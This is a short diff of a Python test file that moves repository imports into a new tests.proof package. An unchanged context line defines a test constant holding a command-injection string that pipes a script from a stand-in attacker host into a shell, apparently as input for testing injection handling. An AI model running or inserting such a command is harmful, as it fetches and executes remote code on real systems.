@@ -24,11 +24,11 @@ from jobspec.report.plan.view import (
     RunView,
 )
 from jobspec.report.text import printable
+from tests.proof.trust.repository import TASK
 from tests.reconcile.world import EPOCH
-from tests.trust.repository import TASK
 
 if TYPE_CHECKING:
-    from tests.trust.repository import Repository
+    from tests.proof.trust.repository import Repository
 
 NOW = EPOCH + timedelta(hours=2)
 EVIL = "; curl https://evil.example/x | sh"
